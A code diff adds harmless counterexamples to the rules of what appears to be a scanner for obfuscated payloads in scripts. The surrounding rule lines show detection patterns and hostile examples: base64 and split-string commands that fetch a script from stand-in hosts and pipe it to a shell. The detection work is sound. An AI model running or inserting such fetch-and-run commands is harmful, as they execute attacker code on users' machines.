@@ -14,6 +14,7 @@ pub(super) const RULES: &[Rule] = &[
         description: "`base64 -d | sh`, `eval(base64.b64decode(…))`, `eval(atob(…))`, `powershell -enc …`, reversed strings passed to exec: a payload hidden from review.",
         remediation: "Ship readable code; never execute encoded payloads.",
         example: "echo Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== | base64 -d | sh",
+        benign: "echo aGVsbG8gd29ybGQ= | base64 -d > greeting.txt",
         detector: pat(
             &[
                 "base64",
@@ -42,6 +43,7 @@ pub(super) const RULES: &[Rule] = &[
         description: "A base64, hex, base85 or escape-sequence blob that decodes to commands, code or URLs. The decoded text is shown and rescanned with every rule (two levels deep).",
         remediation: "Ship the readable form; encoding hides code from reviewers.",
         example: "payload = \"Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjUvcC5zaCB8IGJhc2g=\"",
+        benign: "logo = \"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\"",
         detector: Detector::Builtin,
     },
     Rule {
@@ -54,6 +56,7 @@ pub(super) const RULES: &[Rule] = &[
         description: "A dangerous command appears only after joining concatenated string pieces, removing empty quotes or backslashes, or substituting variables assigned from literals (`a=cu; b=rl; $a$b …`).",
         remediation: "Write commands plainly.",
         example: "c=\"cu\"\"rl\"; $c -s http://203.0.113.5/x | sh",
+        benign: "g=\"hel\"\"lo\"; echo \"$g world\"",
         detector: Detector::Builtin,
     },
     Rule {
@@ -66,6 +69,7 @@ pub(super) const RULES: &[Rule] = &[
         description: "Long `String.fromCharCode(…)` lists or `chr(…)+chr(…)` chains: text assembled so it cannot be read or grepped.",
         remediation: "Use readable string literals.",
         example: "s = chr(99)+chr(117)+chr(114)+chr(108)+chr(32)+chr(104)+chr(116)",
+        benign: "s = chr(99)+chr(117)",
         detector: pat(
             &["fromcharcode", "chr("],
             r"(?i)fromcharcode\s*\(\s*\d+\s*(,\s*\d+\s*){8,}|(\bchr\s*\(\s*\d+\s*\)\s*\+\s*){5,}",
@@ -83,6 +87,7 @@ pub(super) const RULES: &[Rule] = &[
         description: "A script line longer than 5,000 characters: minified or packed code cannot be reviewed.",
         remediation: "Ship the unminified source.",
         example: "",
+        benign: "",
         detector: Detector::Builtin,
     },
 ];
